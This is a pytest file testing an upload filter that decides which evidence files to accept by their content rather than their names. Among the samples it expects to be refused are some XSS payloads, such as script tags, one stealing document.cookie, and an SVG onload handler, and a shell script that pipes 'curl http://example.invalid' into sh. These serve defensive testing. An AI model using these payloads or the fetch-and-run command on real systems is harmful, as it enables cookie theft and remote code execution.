"""The evidence allow-list: types decided by content, never by name.

The sample builders here are also used by ``test_evidence.py``.
"""

from __future__ import annotations

import io
import zipfile

import pytest
from PIL import Image

from nama.core.evidence import sniffing
from nama.core.evidence.sniffing import EvidenceRejected, sniff


def image_bytes(fmt: str, size: tuple[int, int] = (8, 6), **options: object) -> bytes:
    buffer = io.BytesIO()
    mode = "P" if fmt == "GIF" else "RGB"
    Image.new(mode, size, 1 if mode == "P" else "red").save(buffer, fmt, **options)
    return buffer.getvalue()


def zip_bytes(entries: dict[str, bytes], *, stored_first: bool = False) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for position, (name, data) in enumerate(entries.items()):
            compress = zipfile.ZIP_STORED if stored_first and position == 0 else None
            archive.writestr(name, data, compress_type=compress)
    return buffer.getvalue()


CONTENT_TYPES = b'<?xml version="1.0"?><Types xmlns="x"/>'


def docx_bytes(*, macros: bool = False) -> bytes:
    entries = {
        "[Content_Types].xml": CONTENT_TYPES,
        "_rels/.rels": b"<Relationships/>",
        "word/document.xml": "<w:document>شهادة</w:document>".encode(),
    }
    if macros:
        entries["word/vbaProject.bin"] = b"\x00" * 16
    return zip_bytes(entries)


def odt_bytes(mimetype: bytes = b"application/vnd.oasis.opendocument.text") -> bytes:
    return zip_bytes(
        {"mimetype": mimetype, "content.xml": b"<office:document-content/>"}, stored_first=True
    )


ARABIC_TEXT = "شهادة: رأيتُ الحادث في ٣ أيار.\nThe witness saw it.\n".encode()

ACCEPTED = {
    "jpeg": (image_bytes("JPEG"), "image/jpeg", "image"),
    "png": (image_bytes("PNG"), "image/png", "image"),
    "gif": (image_bytes("GIF"), "image/gif", "image"),
    "webp": (image_bytes("WEBP"), "image/webp", "image"),
    "pdf": (b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF\n", "application/pdf", "pdf"),
    "docx": (docx_bytes(), sniffing.DOCX.content_type, "document"),
    "xlsx": (
        zip_bytes({"[Content_Types].xml": CONTENT_TYPES, "xl/workbook.xml": b"<workbook/>"}),
        sniffing.XLSX.content_type,
        "document",
    ),
    "pptx": (
        zip_bytes({"[Content_Types].xml": CONTENT_TYPES, "ppt/presentation.xml": b"<p/>"}),
        sniffing.PPTX.content_type,
        "document",
    ),
    "odt": (odt_bytes(), "application/vnd.oasis.opendocument.text", "document"),
    "mp3 with ID3": (b"ID3\x04\x00\x00\x00\x00\x00\x00" + b"\x00" * 64, "audio/mpeg", "audio"),
    "mp3 frame": (b"\xff\xfb\x90\x64" + b"\x00" * 64, "audio/mpeg", "audio"),
    "mp4": (
        b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + b"\x00" * 32,
        "video/mp4",
        "video",
    ),
    "m4a": (
        b"\x00\x00\x00\x18ftypM4A \x00\x00\x00\x00M4A isom" + b"\x00" * 32,
        "audio/mp4",
        "audio",
    ),
    "mov": (
        b"\x00\x00\x00\x14ftypqt  \x00\x00\x00\x00qt  " + b"\x00" * 32,
        "video/quicktime",
        "video",
    ),
    "3gp": (
        b"\x00\x00\x00\x18ftyp3gp4\x00\x00\x00\x00isom3gp4" + b"\x00" * 32,
        "video/3gpp",
        "video",
    ),
    "ogg opus": (b"OggS\x00\x02" + b"\x00" * 22 + b"OpusHead\x01\x01", "audio/ogg", "audio"),
    "wav": (b"RIFF\x24\x00\x00\x00WAVEfmt \x10\x00\x00\x00" + b"\x00" * 32, "audio/wav", "audio"),
    "amr voice note": (b"#!AMR\n" + b"\x3c" * 32, "audio/amr", "audio"),
    "amr-wb": (b"#!AMR-WB\n" + b"\x04" * 32, "audio/amr-wb", "audio"),
    "arabic text": (ARABIC_TEXT, "text/plain", "text"),
    "text with BOM": (b"\xef\xbb\xbf" + ARABIC_TEXT, "text/plain", "text"),
}


@pytest.mark.parametrize("sample", ACCEPTED.values(), ids=ACCEPTED.keys())
def test_it_accepts_the_allowed_types_by_content(sample):
    data, content_type, kind = sample
    sniffed = sniff(io.BytesIO(data))
    assert (sniffed.content_type, sniffed.kind) == (content_type, kind)


def test_it_leaves_the_file_at_its_start():
    source = io.BytesIO(docx_bytes())
    sniff(source)
    assert source.tell() == 0


HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg">'
    b"<script>alert(1)</script></svg>"
)

REFUSED = {
    "html": (HTML, "evidence_markup"),
    "html after a BOM and blank lines": (b"\xef\xbb\xbf\n\n  " + HTML, "evidence_markup"),
    "svg with script": (SVG, "evidence_markup"),
    "bare svg": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "evidence_markup"),
    "script tag inside text": (
        b"Dear centre,\nplease see <script src=//x></script>",
        "evidence_markup",
    ),
    "xml": (b'<?xml version="1.0"?><note/>', "evidence_markup"),
    "shebang script": (b"#!/bin/sh\ncurl http://example.invalid | sh\n", "evidence_executable"),
    "postscript": (b"%!PS-Adobe-3.0\n", "evidence_executable"),
    "windows executable": (b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 64, "evidence_executable"),
    "linux executable": (b"\x7fELF\x02\x01\x01" + b"\x00" * 64, "evidence_executable"),
    "zip archive": (zip_bytes({"photo.jpg": image_bytes("JPEG")}), "evidence_archive"),
    "gzip": (b"\x1f\x8b\x08\x00" + b"\x00" * 32, "evidence_archive"),
    "rar": (b"Rar!\x1a\x07\x01\x00" + b"\x00" * 32, "evidence_archive"),
    "7z": (b"7z\xbc\xaf\x27\x1c" + b"\x00" * 32, "evidence_archive"),
    "tar": (b"evil.sh".ljust(257, b"\x00") + b"ustar\x0000" + b"\x00" * 300, "evidence_archive"),
    "old word document": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64, "evidence_archive"),
    "docx with macros": (docx_bytes(macros=True), "evidence_macros"),
    "odt with basic macros": (
        zip_bytes(
            {"mimetype": b"application/vnd.oasis.opendocument.text", "Basic/Standard/m.xml": b"x"},
            stored_first=True,
        ),
        "evidence_macros",
    ),
    "heic photo": (
        b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 32,
        "evidence_type",
    ),
    "latin-1 text": ("café à Bagdad".encode("latin-1"), "evidence_type"),
    "utf-16 text": ("شهادة".encode("utf-16"), "evidence_type"),
    "binary junk": (bytes(range(256)), "evidence_type"),
    "broken zip": (b"PK\x03\x04" + b"\x00" * 64, "evidence_type"),
    "empty": (b"", "evidence_empty"),
}


@pytest.mark.parametrize("sample", REFUSED.values(), ids=REFUSED.keys())
def test_it_refuses_everything_else_with_a_reason(sample):
    data, code = sample
    with pytest.raises(EvidenceRejected) as caught:
        sniff(io.BytesIO(data))
    assert caught.value.code == code
    assert str(caught.value.messages[0])


def test_it_finds_markup_split_across_read_blocks():
    padding = b"a" * (64 * 1024 - 3)
    with pytest.raises(EvidenceRejected) as caught:
        sniff(io.BytesIO(padding + b"<script>alert(1)</script>"))
    assert caught.value.code == "evidence_markup"


def test_it_refuses_invalid_utf8_beyond_the_first_block():
    with pytest.raises(EvidenceRejected) as caught:
        sniff(io.BytesIO(b"a" * (200 * 1024) + b"\xff\xfe"))
    assert caught.value.code == "evidence_type"


def test_refusal_messages_are_translated():
    from django.utils import translation

    with translation.override("en"):
        english = str(sniffing.MARKUP)
    assert "Web pages" in english
    # gettext_lazy: the message follows the active language when rendered.
    assert sniffing.MARKUP.__class__.__name__ == "__proxy__"
